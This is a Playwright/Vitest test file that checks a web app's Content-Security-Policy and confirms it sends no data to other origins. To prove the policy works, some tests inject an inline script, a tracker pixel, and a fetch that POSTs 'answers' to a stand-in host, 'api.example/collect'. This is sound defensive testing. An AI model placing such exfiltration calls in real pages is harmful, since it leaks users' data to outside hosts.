import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  EVERY_QUESTION,
  answerWithPointer,
  completeWizard,
  expectClean,
  expectResult,
  heading,
} from './support/app';
import { domQuiet, foreignRequests, launchBrowser, newSession, settle } from './support/browser';
import { eventually } from './support/eventually';
import { NO_BROWSER } from './support/find-browser';
import { type RunningServer, startStaticHost, startVitePreview } from './support/servers';
import { COMPARE_PATH } from '../../src/features/shared/paths';

interface LinkInfo {
  readonly href: string;
  readonly text: string;
  readonly rel: string;
  readonly target: string;
}

/** Every link on the page that leaves the app's origin. */
function externalLinks(page: Page): Promise<LinkInfo[]> {
  return page.evaluate(() =>
    [...document.querySelectorAll<HTMLAnchorElement>('a[href]')]
      .filter((link) => link.origin !== location.origin)
      .map((link) => ({ href: link.href, text: (link.textContent ?? '').trim().slice(0, 60), rel: link.rel, target: link.target })),
  );
}

/** Links that leave the app without rel="noopener noreferrer", or not over https. */
function unsafeExternalLinks(links: readonly LinkInfo[]): string[] {
  return links
    .filter((link) => {
      const rel = link.rel.toLowerCase().split(/\s+/);
      return !rel.includes('noopener') || !rel.includes('noreferrer') || !link.href.startsWith('https://');
    })
    .map((link) => `"${link.text}" ${link.href} rel="${link.rel}" target="${link.target}"`);
}

/** Opens every disclosure and presses every in-page button that only reveals content. */
async function openEverything(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = true;
  });
  for (const button of await page.getByRole('button', { expanded: false }).all()) {
    if (await button.isVisible()) await button.click();
  }
  await domQuiet(page);
}

describe.skipIf(NO_BROWSER)('no leaks and a working Content-Security-Policy', () => {
  let browser: Browser;
  let preview: RunningServer;
  let staticHost: RunningServer;

  beforeAll(async () => {
    [browser, preview, staticHost] = await Promise.all([launchBrowser(), startVitePreview(), startStaticHost()]);
  });
  afterAll(async () => {
    await Promise.all([browser?.close(), preview?.close(), staticHost?.close()]);
  });

  it.each([
    ['vite preview', () => preview],
    ['the static host', () => staticHost],
  ] as const)('a full run requests nothing from any other origin, with no CSP violation (%s)', async (_name, server) => {
    const { appUrl, origin } = server();
    const session = await newSession(browser, { viewport: 'desktop' });
    const { page, record, context } = session;
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
    await page.goto(appUrl);
    await eventually(() => heading(page).isVisible()).toBe(true);
    // Each unsafe link once, with the screens it is on.
    const unsafe = new Map<string, string[]>();
    const note = async (where: string) => {
      for (const link of unsafeExternalLinks(await externalLinks(page))) unsafe.set(link, [...(unsafe.get(link) ?? []), where]);
    };
    await note('intro');

    await page.getByRole('link', { name: 'Start', exact: true }).click();
    await completeWizard(page, EVERY_QUESTION, async (id, answer) => {
      await openEverything(page);
      await note(id);
      await answerWithPointer(page, id, answer, 'click');
    });
    await expectResult(page);
    await openEverything(page);
    const resultLinks = await externalLinks(page);
    expect(resultLinks.length, 'the result links to its sources').toBeGreaterThan(0);
    await note('result');
    await page.getByRole('button', { name: 'Copy link' }).click();
    await eventually(() => page.getByText('Link copied.').isVisible()).toBe(true);

    await page.goto(`${appUrl}#${COMPARE_PATH}`);
    await eventually(() => page.locator('table').count()).toBeGreaterThan(0);
    await openEverything(page);
    await note('compare');
    await page.reload();
    await settle(page);

    // The recording saw the page's own traffic, so an empty list of foreign requests means something.
    expect(record.requests.some((url) => url.startsWith(`${origin}/`) && url.endsWith('.js'))).toBe(true);
    expect(record.requests.every((url) => !url.includes('#')), 'the answers in the hash never reach a server').toBe(true);
    expectClean(record, origin);
    expect([...unsafe].map(([link, where]) => `${link} on ${where.join(', ')}`), 'links that leave the app must have rel="noopener noreferrer" and https').toEqual([]);
    await session.close();
  });

  it('the policy is enforced: inline script, foreign images and fetches are all blocked and reported', async () => {
    const session = await newSession(browser);
    const { page, record } = session;
    await page.goto(preview.appUrl);
    await eventually(() => heading(page).isVisible()).toBe(true);
    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      const image = document.createElement('img');
      image.src = 'https://tracker.example/pixel.png';
      document.body.append(image);
      let fetched = false;
      try {
        await fetch('https://api.example/collect', { method: 'POST', body: 'answers' });
        fetched = true;
      } catch {
        fetched = false;
      }
      const inline = (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
      image.remove();
      script.remove();
      return { inline, fetched };
    });
    await settle(page);
    expect(outcome).toEqual({ inline: false, fetched: false });
    const directives = new Set(record.cspViolations.map((violation) => violation.directive));
    for (const directive of ['script-src-elem', 'img-src', 'connect-src']) expect(directives).toContain(directive);
    // The browser reports the attempts, and CSP stops every one of them before it leaves.
    // (A fetch blocked by connect-src never even becomes a request.)
    const foreign = foreignRequests(record, preview.origin);
    expect(foreign).toEqual(['https://tracker.example/pixel.png']);
    expect(record.failedRequests, 'the pixel was blocked').toEqual([expect.stringMatching(/^https:\/\/tracker\.example\/pixel\.png (csp|net::ERR_BLOCKED_BY_CSP)$/)]);
    await session.close();
  });

  it('the recorder would notice a request to another origin (checked with CSP switched off)', async () => {
    const session = await newSession(browser, { contextOptions: { bypassCSP: true } });
    const { page, record } = session;
    await page.goto(preview.appUrl);
    await page.evaluate(() => {
      const image = document.createElement('img');
      image.src = 'http://127.0.0.2:9/leak.png';
      document.body.append(image);
    });
    await eventually(() => foreignRequests(record, preview.origin)).toEqual(['http://127.0.0.2:9/leak.png']);
    await session.close();
  });
});
